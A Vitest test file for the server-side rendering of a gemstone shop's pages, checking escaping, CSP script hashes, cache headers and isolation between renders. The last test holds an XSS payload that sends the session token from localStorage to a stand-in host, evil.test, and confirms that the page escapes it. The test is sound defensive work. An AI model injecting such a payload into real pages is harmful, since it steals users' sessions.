import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { beforeAll, expect, it } from 'vitest';
import type { PublicSettings } from '#contract/base/site/endpoints.ts';
import type { Api } from '#contract/core/client.ts';
import { type Lang, langs } from '#languages/list.ts';
import type { Body } from '../platform/http/caching/compression.ts';
import type { PagesBuild } from './build.ts';
import { scriptHashes } from './policy.ts';
import { renderPage } from './render.ts';

// The build of `npm test` with a fake API: a second render must not show anything of the first.
const built = join(import.meta.dirname, '../../build/server/index.js');
if (!existsSync(built)) throw new Error('The pages are not built: run `npm run build`.');

const shop = {
  shopName: 'Navaratna',
  shopNameHi: 'नवरत्न',
  sells: true,
  email: 'care@shop.test',
  phone: '+919876500108',
  whatsapp: '+919876500108',
  address: ['9 Johari Bazaar', 'Jaipur'],
  addressHi: [],
  hours: [{ days: 'Mon-Fri', open: '09:00', close: '19:00' }],
  social: [],
  delivery: { charge: 100, freeAbove: 499 },
  cod: { offered: true, maxAmount: 25_000 },
  prices: { kundli: 599, matching: 999, panchang: 299 },
  signIn: null,
};
const product = {
  _id: '32t8mcm1hz97molv',
  name: 'Rose Quartz </script><Heart>',
  miniDesc: 'Smoothed.',
  brand: 'Prana',
  category: 'Stone',
  image: ['/media/a.svg'],
  priceRange: { min: 220, max: 220, display: '₹220' },
  totalStock: 71,
  rating: null,
  translations: {},
};
const facets = {
  misspelt: false,
  total: 1,
  category: [],
  brand: [],
  size: [],
  price: [],
  graha: [],
  stone: [],
  metal: [],
  mukhi: [],
  certificate: [],
  guide: [],
  country: [],
  stock: [],
};

let pages: PagesBuild;
beforeAll(async () => {
  pages = await import(pathToFileURL(built).href);
});

/** Renders the list of one product as HTML. */
async function list({
  settings = {},
  changed = {},
  lang = 'en',
}: {
  settings?: Partial<PublicSettings>;
  changed?: Partial<typeof product>;
  lang?: Lang;
} = {}) {
  const answers: Record<string, unknown> = {
    'GET /api/settings/public': { ...shop, ...settings },
    'GET /api/auth/products/cards': [{ ...product, ...changed }],
    'GET /api/auth/products/facets': facets,
  };
  const { response } = await renderPage(
    pages,
    { path: '/products', search: '', lang, key: '' },
    {
      api: () => (async (key: string) => answers[key]) as unknown as Api,
      publicUrl: () => 'https://shop.test',
      cspSources: {},
      dev: false,
    },
  );
  expect(response.status).toBe(200);
  return response;
}

/** Creates a post with this text, as if it had passed the sanitizer. */
async function article(content: string) {
  const post = {
    _id: '32t8mcm1hz97molv',
    title: 'A post',
    description: '',
    author: '',
    tags: [],
    categories: [],
    image: [],
    featuredImage: null,
    pictures: [],
    content,
    publishedAt: null,
    updatedAt: '2026-10-05T10:30:00.000Z',
    translations: {},
  };
  const answers: Record<string, unknown> = {
    'GET /api/settings/public': shop,
    'GET /api/blog/posts/{id}': post,
    'GET /api/blog/posts/{id}/related': [],
  };
  const { response } = await renderPage(
    pages,
    { path: '/blog-details/32t8mcm1hz97molv', search: '', lang: 'en', key: '' },
    {
      api: () => (async (key: string) => answers[key]) as unknown as Api,
      publicUrl: () => 'https://shop.test',
      cspSources: {},
      dev: false,
    },
  );
  expect(response.status).toBe(200);
  return response;
}

/** Returns the code of the inline scripts that a browser would run. */
const inlineScripts = (html: string): string[] =>
  Array.from(
    html.matchAll(/<script(?![^>]*(?:\ssrc=|"application\/(?:ld\+)?json"))[^>]*>([\s\S]*?)<\/script>/g),
    ([, code = '']) => code,
  );

const textOf = async (body: Body) => (await body.as('plain')).toString();

const htmlOf = async (given?: Parameters<typeof list>[0]) => textOf((await list(given)).body);

it('renders a page the second time like the first, in both languages', async () => {
  for (const lang of langs) {
    const first = await htmlOf({ lang });
    expect(first).toMatch(/^<!DOCTYPE html><html lang="\w\w".*<\/body><\/html>$/s);
    // The name of a product ends no script and starts no element. React Router's data has it, too.
    expect(first).toContain('Rose Quartz &lt;/script&gt;&lt;Heart&gt;');
    expect(first).not.toContain('</script><Heart>');
    expect(inlineScripts(first).some((code) => code.includes('Rose Quartz'))).toBe(true);
    expect(await htmlOf({ lang })).toBe(first);
  }
});

it('shows changes since an earlier render', async () => {
  await htmlOf();
  const next = await htmlOf({
    settings: {
      address: ['1 New Street'],
      delivery: { charge: 50, freeAbove: 777 },
      phone: '+911111111111',
      whatsapp: '+912222222222',
    },
    changed: { name: 'Sold Out Heart', totalStock: 0 },
  });
  const [body = ''] = next.split('<script>window.__reactRouterContext');
  for (const words of ['1 New Street', '₹777', 'tel:+911111111111', 'Sold Out Heart', 'Out of stock'])
    expect(body).toContain(words);
  for (const words of ['Johari Bazaar', '₹499', '+919876500108', 'Rose Quartz'])
    expect(next).not.toContain(words);
});

it('preloads the first pictures in the head', async () => {
  expect(await htmlOf()).toMatch(
    /<link rel="preload" as="image" href="\/media\/a\.svg" fetchPriority="high"\/>/,
  );
});

it('lists every script of the page in its CSP', async () => {
  const { headers, body } = await list();
  const html = await textOf(body);
  const hashes = scriptHashes(inlineScripts(html));
  // The head script, and those of React Router: scroll, context, modules, data, and the end of the data.
  expect(hashes).toHaveLength(6);
  for (const hash of hashes) expect(headers['content-security-policy']).toContain(hash);
  expect(html).not.toContain('nonce');
  expect(headers).toMatchObject({
    'referrer-policy': 'strict-origin-when-cross-origin',
    'cross-origin-opener-policy': 'same-origin-allow-popups',
  });
});

it('sends the page of a shared report with no-store', async () => {
  const gone = () => Promise.reject(Object.assign(new Error('gone'), { status: 404 }));
  const { response, cacheable } = await renderPage(
    pages,
    { path: '/shared-report/a-secret', search: '', lang: 'en', key: '' },
    {
      api: () =>
        (async (key: string) => (key === 'GET /api/settings/public' ? shop : gone())) as unknown as Api,
      publicUrl: () => 'https://shop.test',
      cspSources: {},
      dev: false,
    },
  );
  expect(response.status).toBe(404);
  expect(cacheable).toBe(false);
  expect(response.headers['cache-control']).toBe('no-store');
  expect(response.headers['referrer-policy']).toBe('no-referrer');
});

it('a script that reaches the page through a text is plain text, and has no hash in the CSP', async () => {
  const stolen = 'fetch("//evil.test/"+localStorage.session)';
  const { headers, body } = await article(`<p>Words</p><script>${stolen}</script>`);
  const html = await textOf(body);
  expect(html).toContain(`&lt;script>${stolen}`);
  expect(html).not.toContain(`<script>${stolen}`);
  const [hash = ''] = scriptHashes([stolen]);
  expect(headers['content-security-policy']).not.toContain(hash);
  for (const known of scriptHashes(inlineScripts(html)))
    expect(headers['content-security-policy']).toContain(known);
});
